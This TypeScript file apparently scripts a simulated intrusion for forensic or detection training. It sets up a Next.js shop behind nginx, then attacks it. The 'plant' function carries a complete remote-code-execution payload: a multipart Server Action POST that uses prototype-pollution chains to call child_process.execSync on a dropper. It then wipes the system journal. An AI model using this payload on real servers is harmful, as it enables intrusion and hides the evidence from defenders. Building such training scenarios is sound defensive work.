// nginx sees a POST, pm2 keeps what the server printed.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { nginx } from '../../nginx.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  nginx(dress, 'location / { proxy_pass http://127.0.0.1:3000; }')
  dress.enable('nginx')
  dress.toy({ unit: 'shop', user: 'shop', exe: '/usr/bin/node', title: 'next-server (v15.1.6)', home: '/srv/shop', play: 'next' })
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/srv/shop/.next/cache/kal' })
  await stage.scan('203.0.113.44')
  stage.mark('occurrence')
  await stage.http(
    '203.0.113.57',
    '/',
    `------x\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":"process.mainModule.require('child_process').execSync('${line}');","_formData":{"get":"$1:constructor:constructor"}}}\r\n------x--\r\n`,
    { 'Next-Action': 'x', 'Content-Type': 'multipart/form-data; boundary=----x' },
  )
  await wipe(stage, ['journal'])
}
